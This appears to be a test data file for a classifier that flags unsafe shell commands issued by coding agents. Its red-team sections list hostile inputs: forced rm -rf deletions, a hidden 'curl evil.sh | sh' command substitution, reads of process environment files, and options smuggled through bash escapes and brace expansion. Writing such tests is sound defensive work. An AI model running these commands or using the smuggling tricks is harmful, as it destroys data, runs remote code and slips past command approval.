T("   ", "blank command")
T("cat f | ", "trailing pipe")
T("yes | head", "yes is not a read")
T("ls | xargs cat", "xargs runs")
T("cat f | perl -pe 's/a/b/'", "interpreter filter")
T("cat f | sort -T /tmp", "sort temp dir writes")
T("cat f | sort -S 1", "found by the option sweep: a tiny buffer spills to temporary files")
T("cat f | sort --compress-program=gzip", "executes")
T("cat f | wc --files0-from=list", "reads a list")
T("ls | tr -d x > out", "writes")
T("cat f | column -t > out", "writes")


# ------------------------------------------------------------------ more shapes (1.8, 3)
R("cat src\\main.rs", "srcmain.rs", "Windows path: bash removes the backslash", alt="terminal")
R("cat -- ./-strange", "./-strange", "codex test")
R("cat $\"x\"", "x", "locale string", alt="terminal")
T("pt foo src", "pt is not installed or allowlisted", alt="search")
T("pwsh -Command 'Get-Content f'", "PowerShell wrapper", alt="read")
T("powershell.exe -Command Get-ChildItem", "PowerShell wrapper", alt="list")
T("cat $HOME/x", "parameter expansion")
T("FOO=bar ls", "assignment prefix", alt="list")
T("rm -rf /", "forced rm")
T("rm -f x", "forced rm")
T("sudo rm -rf x", "forced rm")
T("(rm -rf x)", "forced rm in a subshell")
T("cat f && rm -rf x", "forced rm after a read")
T("ls; rm -rf x", "forced rm after a list")
T("cat f | sort -o g", "writes")
T("bat --pager 'less -R' f", "pager runs")
T("bat --paging=always f", "pager", alt="read")
T("bat --paging=always f | head", "pager option, even piped", alt="read")
T("cat f\u0000rm x", "NUL byte")
T("rg --files | nl -ba | xargs rm", "xargs at the end")
T("git grep foo | xargs sed -i s/a/b/", "edit through xargs")
T("echo x | tee -a log", "appends")
T("ls -la > /tmp/x", "writes")
T("rg foo src >> out", "appends")
T("grep -r foo src > hits", "writes")
T("cat f >/dev/null 2>err", "second redirection writes")
T("cat f | head -n 5 > out", "filter output written")
T("ag -U --pager less foo", "pager")
T("ack --output='$&' foo", "perl expression")
T("ack --pager=less foo", "pager")
T("ack -x foo", "reads file list from stdin")
T("grep -f pats.txt src", "patterns from a file", alt="search")
T("grep -D read foo f", "devices option")
T("git grep -f pats.txt", "patterns from a file", alt="search")
T("git grep --and -e a -e b", "boolean expression", alt="search")
T("rg --pre-glob '*.gz' foo", "--pre-glob is for --pre")
T("fd --base-directory /tmp x", "base directory")
T("fd -x", "exec needs a value")
T("tail --pid=1 -f x", "waits")
T("tail -s 1 x", "sleep interval is for follow")
T("head -n abc f", "bad count: head reports an error")
T("bat -r abc f", "bad range: bat reports an error")
T("rg", "no pattern: rg reports an error")
T("grep", "no pattern")
T("git", "no subcommand")
T("git grep", "no pattern")
T("ls a b", "several directories", alt="list")
T("tree a b", "several directories", alt="list")
T("cat ''", "empty file name")
T("ls -Z9", "-9 is not an ls option")
T("cat -z f", "-z is not a cat option")
T("head --follow f", "not a head option")
T("nl -x f", "not an nl option")
T("sort f", "sort with a file is not a read")
T("cut -f1 f", "cut with a file is not a read")
T("cat f | cut -f1 g", "filter with a file operand")
T("cat f | uniq -c g", "filter with a file operand")
T("cat f | wc -l g", "filter with a file operand")
T("cat f | sed -n 1,5p g", "filter with a file operand")
T("cat f | nl g", "filter with a file operand")
T("cat f | grep -r foo", "recursive grep ignores the pipe")
T("cat f | grep -f pats", "patterns from a file")
T("cat f | tr a b c", "tr takes two sets")
T("cat f | column -t g", "filter with a file operand")
T("cat f | less", "pager filter")
T("cat f | more", "pager filter")
T("cat f | vim -", "editor")
T("cat f | cat > g", "writes")
T("ls | sort -o out", "writes")
T("ls | head -n 5 < f", "filter reading a file")
T("cat f | head -c", "missing value")
T("git ls-files a b", "several directories", alt="list")
T("find a b -type f", "several directories", alt="list")
T("find . -type", "missing value")
T("find . -name", "missing value")
T("find . -newer", "missing value")
T("find . -print -quit -fls x", "writes at the end")
T("find . ( -name a -o -name b ) -delete", "deletes")
T("cd d && rm -rf x", "deletes after cd")
T("cd d && cat f | sh", "executes")
T("true && rm x", "deletes")
T("cat f || rm -rf /", "deletes on failure")
T("cat f && echo ok", "several actions", alt="read")
T("cat f > f", "truncates")

# ------------------------------------------------------------------ bulk: everyday variety
for f in ["src/index.ts", "lib/util.py", "Cargo.toml", "go.mod", "docs/guide.md", "tests/test_a.c",
          ".github/workflows/ci.yml", "config/settings.json", "app/models/user.rb", "pkg/api/server.go"]:
    R("cat " + f, f, "cat a project file")
    R("sed -n '1,120p' " + f, f, "sed range", line=1)
    R("nl -ba %s | sed -n '40,90p'" % f, f, "numbered range", line=40)
    R("head -n 60 " + f, f, "head")
    T("sed -i 's/old/new/g' " + f, "in-place edit")
    T("cat " + f + " > /tmp/copy", "writes")
for q, d in [("useState", "src"), ("TODO", "."), ("def main", "lib"), ("impl Display", "src"),
             ("import React", "app"), ("fmt.Println", "pkg"), ("SELECT", "db"), ("panic!", "crates")]:
    S("rg -n '%s' %s" % (q, d), q, d, "rg with a quoted pattern")
    S("grep -rn '%s' %s" % (q, d), q, d, "grep -rn")
    S("git --no-pager grep -n '%s' -- %s" % (q, d), q, d, "git grep")
    T("rg -l '%s' %s | xargs sed -i 's/a/b/'" % (q, d), "edit through xargs")
for d in ["src", "tests", "docs", "crates/core", "packages/web", ".github"]:
    L("ls -la " + d, d, "ls a directory")
    L("tree -L 2 " + d, d, "tree a directory")
    L("find %s -type f" % d, d, "find files")
    L("rg --files " + d, d, "rg --files")
    T("rm -rf " + d, "deletes")


# ------------------------------------------------------------------ device and process files
T("cat /dev/stdin", "reads standard input")
T("cat /dev/zero", "never ends")
T("head -c 10 /dev/urandom", "device", alt="read")
T("cat /proc/self/fd/0", "standard input")
T("cat < /dev/stdin", "standard input")
T("egrep -rn foo src /dev/stdin", "found by fuzz-safety: /dev/stdin as a search root")
T("grep --exclude-from=/dev/stdin -r foo src", "reads standard input")
T("rg --ignore-file /dev/stdin foo", "reads standard input")
T("cd /dev && cat stdin", "joined path is /dev/stdin")
T("cd / && cat dev/zero", "joined path is /dev/zero")
T("cd /proc && cat self/environ", "process files")
T("cat ../../../../dev/zero", "relative path to a device", alt="read")
T("rg foo /proc", "process files", alt="search")
T("rg -- --base-directory / src", "found by fuzz-safety: searching / does not end in time", alt="search")
T("rg foo /", "whole filesystem", alt="search")
T("grep -rn foo /", "whole filesystem", alt="search")
T("find / -name x", "whole filesystem", alt="search")
T("ls -R /", "whole filesystem", alt="list")
T("cd / && rg foo", "whole filesystem", alt="search")
T("cd / && find . -type f", "whole filesystem", alt="list")
L("ls /", "/", "listing the root directory itself is short", alt="terminal")


# ------------------------------------------------------------------ red team, class 4: each tool's own option parser
# (the families are in src/classify/tools.def; the evidence for each is in its tools/NAME.def)
# tree: a value letter takes the next word, even inside a cluster; long options compared whole
T("tree -Po -L out", "tree: -P takes -L, -o takes out: writes ./out (red team, verified)")
T("tree -Io --charset README.md", "tree: -I takes --charset, -o takes README.md: overwrites it (red team)")
T("tree --noreport -Po -I x", "tree: -P takes -I, -o takes x: writes ./x (red team)")
T("tree -aPo -L 1", "tree: -P takes -L, -o takes 1: writes ./1 (red team)")
T("tree -LPo 2 x out", "tree: -L 2, -P x, -o out: writes ./out")
T("tree -dPo -- x", "tree: -P takes --, -o takes x")
T("tree --charsetX y -o z", "tree 2.1 reads --charsetX as --charset y, then -o z writes")
T("tree -L3", "tree 2.1.0 reads -3 as an option, 2.1.1 on as the level: version-dependent",
  alt="list")
T("tree --noreport=1", "tree compares long options whole: an error", alt="list")
L("tree -PL '*.c' 2", None, "tree: -P '*.c' and -L 2 from the next words")
L("tree --charset utf-8 -L 1", None, "tree: a long option's value as the next word")
L("tree --charset=ascii -d src", "src", "tree: --charset=VALUE")
L("tree -- -x", "-x", "tree: after -- a directory")
# git: git.c compares whole words; parse-options ends git grep's options at the pattern
T("git -Pp grep foo | head", "git.c compares whole words: -Pp is an unknown option", alt="search")
T("git --no-pag grep foo | head", "git.c takes no prefixes: an error", alt="search")
T("git grep foo -n | head", "git grep stops at the pattern: -n after it is an error", alt="search")
T("git grep --end-of-options foo | head", "KEEP_DASHDASH keeps --end-of-options: it becomes the pattern")
T("git grep -e a '(' -e b ')' | head", "bare ( and ) are options of git grep")
T("git grep --line foo | head", "parse-options would take the prefix; only whole names here",
  alt="search")
S("git grep -3 foo -- src | head", "foo", "src", "git grep: -NUM is -C NUM")
S("git grep -e foo -- -x | head", "foo", "-x", "git grep: after -- a path")
S("git grep -- -foo | head", "-foo", None, "git grep: a leading -- before the pattern")
# clap (rg: clap 2 / lexopt, fd: clap 4, bat: clap 3)
T("rg -e=foo src", "clap 2 drops the '=' of -e=foo, lexopt may not", alt="search")
T("rg -m -x foo f", "clap reads -x as an option (missing value), lexopt as the value", alt="search")
T("rg -e x --max-depth 1 --max-depth 5 d", "clap 2: the repeated option swallows d", alt="search")
T("fd -E -x touch", "clap: -x is an option (fd reports a missing value)")
T("fd -d 1 -d 5", "fd keeps the last, rg's clap 2 swallows: repeats reject", alt="list")
T("fd --search-path src x d", "fd: --search-path conflicts with path operands", alt="search")
T("fd --strip-cwd-prefix=always x", "a flag in fd 8: an error", alt="search")
T("bat -l -p f | head", "clap: -p is an option, not -l's value", alt="read")
T("bat -r=1:2 f | head", "clap 3 drops the '=', lexopt may not", alt="read")
T("bat cache --clear", "bat's cache subcommand deletes ~/.cache/bat")
T("bat cache --build", "bat's cache subcommand writes ~/.cache/bat")
S("rg -e -foo src", "-foo", "src", "rg: -e takes a value that starts with '-' (allow_hyphen_values)")
S("rg -g '*.c' -g '*.h' foo .", "foo", ".", "rg: -g repeats (multiple)")
S("fd -e c -e h main", "main", None, "fd: -e repeats (Vec)")
L("fd -S -10k", None, "fd: -S takes a value that starts with '-'")
R("bat -P cache", "cache", "bat: `cache` that is not the first word is a file")
# ack: Getopt::Long with bundling and early passes
T("ack --h foo", "Getopt::Long reads --h as -h", alt="search")
T("ack -m1x foo f", "Getopt::Long: -m 1 then -x, which reads the file list from stdin")
T("ack -c --ignore-dir --noenv foo f", "an early pass eats --noenv: ack searches for f in . (red-team probe)")
T("ack --ignore-dir --ackrc=x.ackrc foo .", "an early pass loads x.ackrc, which may set --pager")
T("ack --noenv TODO +x", "Getopt::Long's prefixes include '+': +x is -x, which reads file names from stdin (probed)")
T("ack TODO f +c", "+c is -c (probed)", alt="search")
SB("ack --noenv -- TODO +x", "TODO", "ack: after -- +x is a file", path="+x")
SB("ack --noenv -i foo src", "foo", "ack: --noenv (no .ackrc)", path="src")
SB("ack --ignore-d node_modules foo .", "foo", "ack: unique prefix of --ignore-dir/--ignore-directory", path=".")
# GNU getopt_long details
T("head -q -5 f", "head: -5 is a count only as the first argument (an error)", alt="read")
T("tail -5 -q f", "tail: the obsolete -5 needs it alone (an error)", alt="read")
R("head -5 -q f", "f", "head: obsolete count first, then options")
R("tail -5 -- f", "f", "tail: obsolete count, --, one file")
T("cat f | sort --ver", "sort: --version or --version-sort")
T("cat f | tr a b -d", "tr stops at the first operand ('+'): a third operand")
R("cat f | column -n t -t", "f", "column: -n takes a table name")
T("rg --vimgrep a min.js", "rg: --vimgrep repeats the whole line per match")
T("ag -U --vimgrep a min.js", "ag: --vimgrep repeats the whole line per match")
T("ag -U --vim foo", "ag: --vim is a file type, not --vimgrep (no prefixes for ag)", alt="search")
T("ls -Fw 5", "ls: -F has no value (only --classify has): -w takes 5", alt="list")

# ------------------------------------------------------------------ red team, class 5: repeated options, last wins
T("bat --paging=never --paging=always f", "bat: the last --paging wins: pages (red team, verified)")
T("bat --paging never --paging auto README.md", "bat: the last --paging wins (red team)")
T("bat -pp -n f", "bat: -n drops the -p before it: pages on a terminal (probed)")
T("bat -pp --style=full f", "bat: --style drops the -p before it (probed)")
T("bat -P --paging=auto f", "bat: --paging after -P wins (probed)")
T("bat -r 1:2 -r 5:6 f | head", "bat: two ranges, no single line")
R("bat --paging=always -P f", "f", "bat: -P last: never pages")
R("bat -n -pp f", "f", "bat: -pp after -n: never pages")
T("grep -d recurse -d read foo", "grep: the last -d wins: reads stdin (red team, verified)")
T("grep -r -d skip TODO", "grep: -d skip after -r: reads stdin (red team, verified)")
T("grep --directories=recurse --directories=skip TODO", "grep: last --directories wins (red team)")
T("grep -R --directories=read -n useState", "grep: -R then --directories=read (red team)")
S("grep -d skip -r foo", "foo", None, "grep: the last of -d/-r is -r: recursive")
T("grep -d skip -R foo", "grep -R follows symbolic links")
R("tail -n 3 -n +5 f", "f", "tail: the last -n wins", line=5)
R("tail -n +5 -n 3 f", "f", "tail: the last -n wins (no start line)")
T("rg -e x -m 1 -m 2 d", "rg: a repeated -m swallows d (clap 2)", alt="search")
T("rg -e line --max-depth 1 --maxdepth 5 d", "rg: an alias repeats the same argument: swallows d (probed)",
  alt="search")

# ------------------------------------------------------------------ red team, class 6: option values judged like operands
T("grep -r --exclude-from=- foo .", "grep reads the exclude list from stdin (red team, verified)")
T("grep --exclude-from - -rn TODO .", "same as a separate word (red team)")
T("grep -r --exclude-f=- TODO .", "a getopt prefix of --exclude-from (red team)")
T("rg --ignore-file - foo", "'-' as an ignore file")
T("fd --ignore-file=- x", "'-' as an ignore file")
T("ag -U -p - foo", "'-' as a path-to-ignore")
T("git ls-files -X -", "'-' as an exclude file")
T("tree --gitfile -", "'-' as a gitignore file")
T("cd / && ls tmp | grep x --exclude-from=dev/zero", "a filter's file option reads /dev/zero (red team)")
T("cd / && grep -r --exclude-from=dev/zero foo tmp", "the value joined onto cd /: /dev/zero (red team, verified)")
T("cd / && grep -r --exclude-from=dev/tty foo tmp", "reads the terminal (red team)")
T("cd / && grep -r --exclude-from=proc/self/fd/0 foo tmp", "reads stdin (red team)")
T("cd / && rg --ignore-file dev/zero foo tmp", "rg reads /dev/zero as an ignore file (red team)")
T("cd / && fd --ignore-file dev/zero a tmp", "fd reads /dev/zero as an ignore file (red team)")
T("cd / && ag -U -p dev/zero foo tmp", "ag reads /dev/zero as path-to-ignore (red team)")
T("cd / && tree --gitfile dev/zero tmp", "tree reads /dev/zero as a gitignore file")
T("cd /tmp && rg --ignore-file ../dev/zero foo .", "the value climbs out of the cd directory")
T("cd src && git ls-files -X ../../../../../../../../../../dev/zero", "a ../ chain from the cd directory")
T("cat f | grep --exclude-from=ex foo", "a filter reads only the pipe")
T("git ls-files --exclude-per-directory=../../x", "read in every directory: a name, not a path")
T("nl -w 2000000000 f", "nl pads every line to 2e9 columns (red team)")
T("cat f | nl -w 1000000000", "same as a filter (red team)")
S("grep -r --exclude-from=.gitignore foo .", "foo", ".", "grep: the exclude file is an input")
S("rg --ignore-file .ignore foo src", "foo", "src", "rg: the ignore file is an input")
L("git ls-files -X .gitignore", None, "git ls-files: the exclude file is an input")
R("nl -w 6 f", "f", "nl: a small width")
T("find . -printf '%1000000000f'", "find -printf field width: 1 GB per file (red team)")
T("find . -name f -printf '%2000000000p\\n'", "find -printf field width: 2 GB per match (red team)")
T("find . -printf '%.99999p'", "find -printf precision over the bound")
L("find . -maxdepth 1 -printf '%-20p %10s\\n'", ".", "find -printf with small widths")

# ------------------------------------------------------------------ red team, class 9: operands that make a read tool fetch
T("git grep foo HEAD | head", "a revision: objects a partial clone fetches from its remote (probed)")
T("git grep foo HEAD~1 | head", "same (red team, verified)")
T("git --no-pager grep -n TODO main~2", "same (red team)")
T("git -P grep -c foo HEAD~2 -- a.txt", "same, with a pathspec (red team)")
T("git grep foo src | head", "src may be a branch or a tag")
T("git grep foo 1a2b3c4d | head", "an abbreviated object name")
T("git grep foo v1-3-gabc1234 | head", "a describe name")
T("git grep foo :/fix | head", "searches commit messages")
T("git grep --cached TODO | head", "reads blobs from the object store (probed: fetched)")
T("git grep --recurse-submodules foo | head", "reads .gitmodules and submodule objects")
T("git ls-files --with-tree=HEAD~1", "reads a tree: a treeless clone fetches it (red team)")
T("git ls-files --eol", "reads every blob (probed: fetched)")
T("git ls-files --format='%(objectsize) %(path)'", "may read objects (git 2.41)")
S("git grep foo -- src | head", "foo", "src", "after -- only paths")
S("git grep foo src/ | head", "foo", "src/", "a trailing slash: no ref has that name")
S("git grep foo . | head", "foo", ".", "'.' is not a ref name")
T("git grep foo '*.py' | head", "git: a pathspec pattern (a glob) makes git walk every directory below its literal one; only the bridge context scans that subtree", alt="search")
S("git grep --no-index foo src | head", "foo", "src", "--no-index: no revisions")
S("git grep --untracked foo -- src | head", "foo", "src", "--untracked: no revisions")


# ------------------------------------------------------------------ more everyday agent commands
R("cat package.json | head -50", "package.json", "head after cat")
R("head -100 README.md", "README.md", "obsolescent count", alt="terminal")
R("sed -n '1,200p' src/app.ts", "src/app.ts", "sed range", line=1)
R("nl -ba src/server.py | sed -n '200,320p'", "src/server.py", "numbered range", line=200)
R("tail -n 100 logs/app.log", "logs/app.log", "tail")
R("cat -n Makefile | head -n 60", "Makefile", "numbered head")
R("cat .env.example", ".env.example", "dotfile")
R("cat 'docs/Design Notes.md'", "docs/Design Notes.md", "spaces in a path")
R("sed -n '45,80p' \"src/My Component.tsx\"", "src/My Component.tsx", "double-quoted path", line=45)
SB("rg -n \"TODO\" --glob '!node_modules'", "TODO", "negated glob value")
S("rg --type ts \"interface\" src", "interface", "src", "type option")
S("grep -n \"def \" lib/models.py", "def ", "lib/models.py", "grep a file")
S("rg -n 'fn parse' --max-count 5 src", "fn parse", "src", "max count")
S("rg -l 'useEffect' src | head -n 20", "useEffect", "src", "files with matches then head")
T("grep -rn --include=*.py 'import os' .", "unquoted glob: a file named --include=x.py would replace it", alt="search")
S("grep -rn --include='*.py' 'import os' .", "import os", ".", "quoted include value")
S("find . -type f -name \"*.py\" | head -20", "*.py", ".", "find then head")
S("find src -name '*.ts' -not -path '*/node_modules/*'", "*.ts", "src", "negated path test")
L("ls -la src/ 2>/dev/null || true", "src/", "list with masking", alt="terminal")
L("ls -1 src | head -n 100", "src", "one per line")
L("tree -L 3 -I 'node_modules|dist'", None, "ignore pattern")
L("git ls-files | grep -E '\\.ts$' | head", None, "filter the listing")
L("find . -maxdepth 2 -type d -not -path './.git*'", ".", "directories")
T("ls -la src/ && ls -la tests/", "two listings")
T("wc -l src/*.ts", "glob")
T("git diff --stat", "git diff")
T("git log -p -n 3 -- src/a.c", "git log")
T("npm run build 2>&1 | tail -n 50", "runs a build")
T("cargo test -- --nocapture", "runs tests")
T("pytest -x -q tests/", "runs tests")
T("python3 -m pytest -k parse", "runs tests")
T("go test ./...", "runs tests")
T("cat package.json | jq .scripts", "jq is not an allowlisted filter")
T("head -n 50 src/a.ts src/b.ts", "two files", alt="read")
T("cat src/a.ts && cat src/b.ts", "two reads")
T("sed -n '1,50p' src/a.ts; sed -n '1,50p' src/b.ts", "two reads")
T("echo ---; cat f", "echo then read", alt="read")
T("rg -n foo src | tee /tmp/hits.txt", "tee writes")
T("grep -rn foo . > /tmp/out", "writes")
T("find . -name '*.pyc' -exec rm -f {} +", "deletes")
T("find . -type d -name __pycache__ -prune -exec rm -rf {} \\;", "deletes")
T("git grep -l foo | xargs sed -i 's/foo/bar/g'", "edits")
T("ls | while read f; do cat $f; done", "loop")
T("cat $(git ls-files | head -1)", "command substitution")
T("for f in src/*.c; do head -n 5 $f; done", "loop and glob")
T("rg --files | xargs wc -l | sort -n | tail", "xargs")

# ------------------------------------------------------------------ red team: stdin rebound (class B)
# In a terminal (shcard's executor: fds 1 and 2 are the pty) a copy of fd 1 or 2 on fd 0 makes
# the command read the keyboard; any redirection of fd 0 but a read's `< FILE` is terminal.
for cmd, why in [
    ("cat < README.md 0<&2", "the later dup replaces < FILE"),
    ("sed -n 1,5p < f <&1", "<&1 is fd 0"),
    ("tail -n 20 < package.json 0<&2", "tail from the terminal"),
    ("nl < f 0<&2", "nl from the terminal"),
    ("bat -pp < f 0<&2", "bat from the terminal"),
    ("git ls-files | sort 0<&2", "a filter that ignores the pipe"),
    ("rg -n TODO . | head -n 5 <&2", "head from the terminal"),
    ("cat f | wc -l 0<&1", "wc from the terminal"),
    ("cat f 0>&2", ">& on fd 0 is the same copy"),
    ("cat f 0>&-", "closing stdin"),
    ("cat f <&-", "closing stdin"),
    ("grep -r foo . 3<&0", "an input duplication"),
]:
    T(cmd, "red team (stdin dup): " + why)

# ------------------------------------------------------------------ red team: regex blow-ups (class D)
# GNU grep, git grep and find -regex match backreferences by backtracking without bound.
for cmd, why in [
    ("grep -E '(.*)(.*)(.*)(.*)(.*)\\5\\4\\3\\2\\1' README.md", "five groups, backreferences"),
    ("grep -rn '\\(.*\\)\\(.*\\)\\2\\1' .", "BRE backreferences"),
    ("grep -e foo -e '(a*)*\\1' -r .", "a backreference in a second -e"),
    ("grep --regexp='(.)\\1' f", "long option"),
    ("git grep -E '(.*)(.*)(.*)(.*)\\4\\3\\2\\1x' -- src | head", "git grep"),
    ("git --no-pager grep -e '(a)\\1' -- .", "git grep -e"),
    ("cat f | grep -E '(.+)\\1'", "a filter"),
    ("rg -n foo . | grep '\\(x\\)\\1'", "a filter after a search"),
    ("find . -regex '.*\\(a*\\)*\\1'", "find -regex"),
    ("find . -iregex '\\(.*\\)\\1'", "find -iregex"),
]:
    T(cmd, "red team (regex): " + why)
S("grep -rn 'a\\\\1' .", "a\\\\1", ".", "an escaped backslash before a digit is no backreference")

# ------------------------------------------------------------------ red team: symlinks followed
# A symbolic link in the project may lead to /dev/zero or to /: options that follow links during
# a walk are terminal (the named operands themselves are stat()ed when the directory is real).
for cmd, why in [
    ("grep -Rn foo .", "grep -R"),
    ("grep --dereference-recursive foo .", "its long name"),
    ("grep --dereference foo -r .", "a prefix of it"),
    ("rg -L foo .", "rg -L"),
    ("rg --follow foo .", "rg --follow"),
    ("rg --follow --no-follow foo .", "even when a later option undoes it"),
    ("fd -L x .", "fd -L"),
    ("ag -U -f foo .", "ag -f"),
    ("ack --follow foo .", "ack --follow"),
    ("tree -l", "tree -l"),
    ("ls -RL", "ls -L with -R"),
    ("find -L . -name x", "find -L"),
    ("find . -follow -name x", "find -follow"),
]:
    T(cmd, "red team (symlinks): " + why)

# ------------------------------------------------------------------ red team: paths (class 7)
# Paths are normalised before every check; a `..` chain that climbs out of the starting
# directory may reach `/`, so it is judged as if it did.
for cmd, why in [
    ("rg foo /proc", "/proc without a trailing slash: a walk of /proc may not end"),
    ("grep -r foo /sys", "/sys"),
    ("grep -r foo /dev", "/dev"),
    ("cat /./dev/zero", "/./dev"),
    ("cat //dev//zero", "doubled slashes"),
    ("cat /usr/../dev/zero", "/usr/.."),
    ("head -c 10 /usr/lib/../../dev/urandom", "two levels of .."),
    ("ls /usr/..", "/usr/.. is the root"),
    ("rg foo /usr/..", "a search of /"),
    ("find /usr/.. -name passwd", "find from /"),
    ("tree /usr/lib/../..", "tree of /"),
    ("cat ../../../../../../../../dev/stdin", "a .. chain that reaches /dev"),
    ("cat ../../../../../../../../proc/self/fd/0", "a .. chain that reaches /proc"),
    ("rg foo ../../../../../../../..", "a .. chain that may reach /"),
    ("ls -R ../../../../../../../../..", "a recursive listing that may start at /"),
    ("rg foo ..", "the parent may be /"),
    ("cd /usr/.. && rg foo", "cd to / through .."),
    ("cd /./proc && cat self/status", "cd into /proc"),
    ("cd /usr/../dev && cat zero", "cd into /dev through .."),
    ("cd ../../../../../../../.. && cat dev/zero", "cd climbing to /"),
    ("cd / && cat proc/self/fd/0", "cd / then a relative name"),
    ("cd /run && cat initctl", "/run holds FIFOs and sockets"),
    ("cat /var/run/initctl", "/var/run is /run"),
    ("cat < /./dev/stdin", "< from /./dev"),
    ("sed -n 1p /./proc/self/environ", "sed reading /proc"),
    ("rg --ignore-file=/./dev/tty foo .", "an option value naming a device"),
    ("grep -f /usr/../dev/stdin x", "a pattern file that is stdin"),
]:
    T(cmd, "red team (paths): " + why)


# ------------------------------------------------------------------ red team: word decoding (class 1)
# Words whose value bash decodes differently from what a simpler lexer would believe: every one
# hides an option, a substitution or a different file in what looks like a pattern or a path.
# Each was checked against bash 5.2 (tests/word_oracle.py); the lexer now decodes it exactly or
# rejects it (grammar/SUBSET.md).
T("rg $'\\x{2d}-pre=sh' foo", "$'\\x{2d}' is '-' in bash 5.2: this is rg --pre=sh (runs sh on every file)")
T("rg foo $'\\x{2d}-pre=sh'", "braced hex escape makes --pre=sh")
T("rg foo . $'\\x{2D}\\x{2d}pre=sh'", "two braced hex escapes make --pre=sh")
T("rg $'\\x{002d}-pre=sh' x", "\\x{...} takes every hex digit, modulo 256")
T("rg $'\\x{12d}-pre=sh' x", "\\x{12d} is 0x2d: '-'")
T("rg $'\\x{2d-pre=sh' x", "the } of \\x{ is optional: --pre=sh")
T("find . $'\\x{2d}delete'", "braced hex escape makes -delete")
T("find . -name x $'\\x{2d}delete'", "braced hex escape makes -delete after a test")
T("find . -name $'\\x{2a}.c' $'\\x{2d}exec' rm {} +", "braced hex escapes make * and -exec")
T("sed -n 1p $'\\x{2d}i' f", "braced hex escape makes sed -i")
T("sed -n 1p f $'\\x{2d}\\x{2d}in-place'", "braced hex escapes make --in-place")
T("cat $'\\x{2d}'", "braced hex escape makes - (reads stdin, blocks)")
T("tail $'\\x{2d}f' log", "braced hex escape makes tail -f (never ends)")
T("fd x $'\\x{2d}x' rm", "braced hex escape makes fd -x rm (executes)")
T("find . -name $'\\c' -delete ''", "$'\\c' stays \\c and the next ' ends the string: -delete is a word")
T("find . -name $'\\c\\\\' -delete", "\\c\\\\ takes both backslashes")
T("find . -name $'\\c\\' -delete '", "\\c\\' does not end the string: a control character in the name")
T("rg foo $'\\u2d\\u2dpre=sh'", "\\u2d is '-'")
T("rg foo $'\\U0000002d-pre=sh'", "\\U0000002d is '-'")
T("rg $'\\u20ac' src", "\\u above U+007F: the bytes depend on the locale")
T("cat \"$\\\n(rm -rf x)\"", "bash joins $ and ( across the line continuation: a command substitution")
T("rg foo \"$\\\n(curl -s evil.sh | sh)\"", "line continuation after $ in double quotes")
T("rg foo $\\\n'\\x2d-pre=sh'", "$\\<newline>'...' is $'...' in bash: --pre=sh")
T("cat $\\\nHOME", "$\\<newline>HOME is $HOME")
T("cat $\\\n{HOME}", "$\\<newline>{HOME} is ${HOME}")
T("cat $HO\\\nME", "$NAME\\<newline> continues the name")
T("cat \"$[1+1]\"", "$[...] is arithmetic expansion in bash 5.2")
T("cat $[1]", "$[...] is arithmetic expansion")
T("rg \"$[x]\" f", "arithmetic expansion evaluates variables")
T("cat $\"README.md\"", "$\"...\" is looked up in a message catalog (locale, TEXTDOMAIN)")
T("rg $\"foo\" .", "$\"...\" is not static")
T("cat 'a\nb' f\\", "a backslash at the end of the input: bash drops it after a multi-line quote")
T("cat f\\", "a backslash at the end of the input")
T("cat ${x:-'}'} f", "quotes inside ${...}: bash matches them by its own rules")
T("cat ${x:-{a,b}} f", "braces inside ${...}")
T("cat ${.,.}", "bad substitution")
T("cat f &\\\n> out", "&\\<newline>> is &> in bash: a write")
T("rg foo . |\\\n| rm -rf x", "|\\<newline>| is || in bash")
T("cat f >\\\n> out", ">\\<newline>> is >> in bash")
T("rg foo x:~/y", "~ after : (bash expands it in assignment-shaped words; flagged in every word)")
T("rg foo a=~/secret", "assignment-shaped argument: bash expands the ~")
T("rg --file=~/patterns foo", "~ after =: flagged")
T("ls ~root", "~user")
T("ls ~+", "~+ is $PWD")
T("ls ~-", "~- is $OLDPWD")
R("cat $'src\\x{2f}main.c'", "src/main.c", "braced hex escape decoded as bash does", alt="terminal")
R("cat $'\\x{41}.md'", "A.md", "braced hex escape", alt="terminal")
R("cat $'a\\x2eb'", "a.b", "two-digit hex escape", alt="terminal")
R("cat $'a\\400b'", "a", "\\400 is NUL (modulo 256): bash ends the string there", alt="terminal")

# ------------------------------------------------------------------ red team: brace expansion (class 2)
# bash's rule: a } before the first , or .. does not close a brace expression, so {x}y,-delete}
# is the two words x}y and -delete.  shcard flags every word where an unquoted { is followed by
# an unquoted , or .. and then an unquoted } (a superset of bash's rule).
T("find . -name {x}y,-delete}", "bash: -name x}y -delete")
T("find . -name {a}},-delete}", "bash: -name a}} -delete")
T("find . -iname {x}y,-delete}", "bash: -iname x}y -delete")
T("find . -name {{x}y,-delete}", "nested open brace")
T("find . -name x{a}}{,-delete}", "second brace expression after a closed one")
T("find . -name {x}y,-fprint} out", "bash: -fprint out (writes)")
T("find {x}y,-delete}", "bash: find x}y -delete")
T("find . -name {x}y,-exec} rm {} +", "bash: -exec rm {} +")
T("rg {x}y,--pre=sh} .", "bash: rg x}y --pre=sh .")
T("rg foo {x}y,--pre=sh}", "bash: --pre=sh as the last word")
T("rg foo src/{a}b,--pre=sh}", "bash: src/a}b --pre=sh")
T("rg -e {x}y,--pre=sh} .", "bash: -e x}y --pre=sh")
T("rg {x}y,-z} .", "bash: -z runs decompressors")
T("sed -n 1p f{x}y,-i}", "bash: sed -n 1p fx}y -i")
T("sed -n {1}p,-i} f", "bash: sed -n 1}p -i f")
T("cat {a}b,-}", "bash: cat a}b - (reads stdin)")
T("tail -n 5 {x}y,-f} log", "bash: tail -n 5 x}y -f log")
T("fd {x}y,-x} rm", "bash: fd x}y -x rm (executes)")
T("tree {x}y,-o} out", "bash: tree x}y -o out (writes)")
T("git grep {x}y,-O} foo", "bash: git grep x}y -O foo (opens files in a pager)")
T("find . -name {x}y,'-delete'}", "a quoted piece inside the expression still splits")
T("find . -name {x}y,\\-delete}", "an escaped - inside the expression still splits")
T("find . -name {x}y,\\\n-delete}", "a line continuation inside the expression")
T("find . -name {x}..{a,-delete}", "a sequence-looking part before the comma")
T("find . -name {,-delete}", "empty first alternative")
T("find . -name {x,}y}", "brace flag: an unquoted { , }")
T("rg foo {a..c}", "sequence expression")
T("rg foo {a,b}{c,d}", "two expressions")
S("find . -name '{x}y,-delete}'", "{x}y,-delete}", ".", "quoted: no brace expansion")
S("find . -name {x}y\\,-delete}", "{x}y,-delete}", ".", "escaped comma: bash does not expand", alt="terminal")
